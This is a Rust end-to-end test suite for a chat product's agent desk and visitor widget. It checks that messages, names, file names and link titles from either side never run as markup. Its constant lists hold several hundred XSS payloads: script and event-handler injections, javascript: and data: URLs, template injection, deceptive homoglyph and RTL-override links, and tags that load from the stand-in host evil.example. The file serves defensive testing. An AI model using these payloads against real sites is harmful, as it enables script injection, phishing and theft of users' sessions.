//! H-01 and H-02: whatever somebody writes, it is text for whoever reads it. What runs is our own program, and
//! nothing is fetched from anywhere else: at the end of every story no browser may have gone to a foreign place
//! or have reported a breach of the security policy.

use serde_json::json;
use shared::{
    agent,
    choice::Options,
    limits::{MAX_NAME, MAX_OPTION},
    link::PageLink,
    message::Content,
    text,
    variable::Told,
    visitor::{Command, Reply, Start},
};
use tests::browser::Window;

use crate::stage::play;

/// What a text must do to become more than text.
const BREAKS: [&str; 9] = [
    "",
    "\">",
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title></style></script>",
    "<svg><desc>",
    "<noscript><p title=\"</noscript>",
];

/// What would run, or load something, as markup.
const ALIVE: [&str; 36] = [
    "<script>pwned=1</script>",
    "<script src=//evil.example/x></script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<img src=x onerror=pwned=1>",
    "<img src=//evil.example/x.png>",
    "<img/src/onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:pwned=1>x</a></math>",
    "<iframe srcdoc=\"<script>top.pwned=1</script>\">",
    "<iframe src=javascript:pwned=1>",
    "<object data=javascript:pwned=1>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<select autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<video><source onerror=pwned=1></video>",
    "<audio src=x onerror=pwned=1>",
    "<marquee onstart=pwned=1>x</marquee>",
    "<form action=javascript:pwned=1><button>x</button></form>",
    "<a href=javascript:pwned=1>x</a>",
    "<a href=\"java\tscript:pwned=1\">x</a>",
    "<a href=data:text/html,<script>pwned=1</script>>x</a>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "<p style=animation-name:x onanimationstart=pwned=1>x</p>",
    "<template><img src=x onerror=pwned=1></template>",
    "<table background=//evil.example/x><td>",
    "{{constructor.constructor('pwned=1')()}}",
    "${pwned=1}",
    "&lt;img src=x onerror=pwned=1&gt;",
];

/// What must not become a link, or not one that leads elsewhere than it says.
const LINKS: [&str; 14] = [
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    "javascript://shop.example/%0apwned=1",
    "data:text/html,<script>pwned=1</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://bank.example@evil.example/",
    "https://bank.example\\@evil.example/",
    "https://evil.example/\u{202e}gpj.exe",
    "https://b\u{430}nk.example/",
    "https://bank\u{200b}.example/",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "intent://evil.example#Intent;end",
];

/// All of them, each on a line: more than three hundred.
fn payloads() -> Vec<String> {
    let broken = BREAKS
        .iter()
        .flat_map(|out| ALIVE.iter().map(move |alive| format!("{out}{alive}")));
    let links = LINKS.iter().map(|it| (*it).to_owned());
    let all: Vec<String> = broken.chain(links).collect();
    assert!(all.len() >= 300, "{}", all.len());
    all
}

/// The same in so few messages that nobody minds how fast they are written.
fn messages() -> Vec<String> {
    let all = payloads();
    let parts = all.chunks(10);
    parts.map(|part| part.join("\n")).collect()
}

/// So many conversations of visitors share them.
const CHATS: usize = 4;

/// The short ones, as names: on one line.
fn names(most: usize) -> Vec<String> {
    let all = payloads().into_iter().map(|it| it.replace('\t', " "));
    all.filter(|it| it.chars().count() <= most).collect()
}

/// Nothing ran, every link leads to the web or to a mailbox, and nothing stands there that was written as markup.
async fn is_harmless(window: &Window, what: &str) {
    let script = "
        const links = all('a[href]').map((it) => it.href).filter((it) => !/^(https?|mailto):/.test(it));
        const foreign = all('script, iframe, object, embed, base, meta[http-equiv], form[action], marquee, [style*=evil]')
            .filter((it) => it.outerHTML.includes('evil.example') || it.outerHTML.includes('pwned'));
        const leading = all('a[href^=http]').filter((it) => new URL(it.href).host.includes('evil.example'));
        const unsafe = all('a[target]').filter((it) => !it.rel.includes('noopener'));
        const found = [...links, ...[...foreign, ...leading, ...unsafe].map((it) => it.outerHTML)];
        return [globalThis.pwned ?? null, document.title.includes('pwned'), found];
    ";
    let found = window.ask(script, &[]).await;
    assert_eq!(found, json!([null, false, []]), "{what}");
}

/// H-01, H-02: of a visitor, to agents. Text, name, e-mail, what the page tells, and the name of a file.
#[tokio::test]
async fn h_01_what_a_visitor_writes_runs_nowhere_at_the_desk() {
    play("payloads-desk", async |stage| {
        let anna = stage.agent(0).await;
        let address = stage.demo.address();
        let names = names(MAX_NAME);
        let messages = messages();
        let shares = messages.chunks(messages.len().div_ceil(CHATS));
        for ((chat, part), said) in names.chunks(20).enumerate().zip(shares) {
            let mut visitor = stage.stranger().await;
            let told = |it: &String| Told {
                name: it.clone(),
                value: it.clone(),
                secret: false,
            };
            let name = part[0].clone();
            assert_eq!(text::name(&name), Ok(name.clone()));
            let start = Start {
                content: Content::text(format!("Question {chat} {}", part[1])),
                name: Some(name),
                variables: part.iter().map(told).collect(),
                ..Start::default()
            };
            let started = visitor.ask(Command::Start(start)).await;
            assert!(matches!(started, Ok(Reply::Started(_))), "{started:?}");
            for text in said {
                visitor.post(text).await;
            }
            let file = visitor.file(address, &part[2], b"plain text").await;
            let content = Content {
                link: Some(Box::new(PageLink {
                    address: "https://elsewhere.test/".to_owned(),
                    title: part[2].clone(),
                    own_site: false,
                })),
                files: vec![file],
                ..Content::default()
            };
            let posted = visitor
                .ask(Command::Post(shared::visitor::Post { content }))
                .await;
            assert!(matches!(posted, Ok(Reply::Posted(_))), "{posted:?}");
            visitor.post("That is all.").await;

            let question = format!("Question {chat}");
            anna.go_to_dashboard().await;
            anna.page().see(".incoming [role=row]", &question).await;
            is_harmless(anna.page(), "the dashboard").await;
            anna.answer(&question).await;
            anna.page().see(".contact", "").await;
            // What is far from where one reads is not in the page: its beginning, then its end.
            is_harmless(anna.page(), "the beginning of the conversation").await;
            anna.page().press("button.jump", "").await;
            anna.sees("That is all.").await;
            is_harmless(anna.page(), "its end").await;
        }
        let page = anna.page();
        page.press("nav a", "Archive").await;
        page.see(".findings a", "Question 0").await;
        is_harmless(page, "the archive").await;
    })
    .await;
}

/// H-01, H-02: of an agent, to a visitor. Text, options, and the names of files.
#[tokio::test]
async fn h_01_what_an_agent_writes_runs_nowhere_in_the_widget() {
    play("payloads-widget", async |stage| {
        let kari = stage.visitor("Kari").await;
        kari.begin("Does the lamp dim?").await;
        let mut anna = stage.desk(0).await;
        let chat = anna.take_next().await.id;
        for said in messages() {
            anna.post(&chat, &said).await;
        }
        for part in names(MAX_OPTION).chunks(8).take(4) {
            let file = anna
                .file(stage.demo.address(), &part[0], b"plain text")
                .await;
            let content = Content {
                text: part[1].clone(),
                options: Some(Options {
                    texts: part.to_vec(),
                    ..Options::default()
                }),
                link: Some(Box::new(PageLink {
                    address: "https://elsewhere.test/".to_owned(),
                    title: part[2].clone(),
                    own_site: false,
                })),
                files: vec![file],
                ..Content::default()
            };
            let post = agent::Post {
                conversation: chat.clone(),
                content,
                seen: None,
            };
            let posted = anna.ask(agent::Command::Post(post)).await;
            assert!(matches!(posted, Ok(agent::Reply::Posted(_))), "{posted:?}");
        }
        anna.post(&chat, "That is all.").await;
        kari.sees("That is all.").await;
        is_harmless(kari.panel().await, "the panel").await;
        kari.reload().await;
        kari.sees("That is all.").await;
        is_harmless(kari.panel().await, "the panel again").await;
        is_harmless(kari.page().await, "the shop").await;
    })
    .await;
}
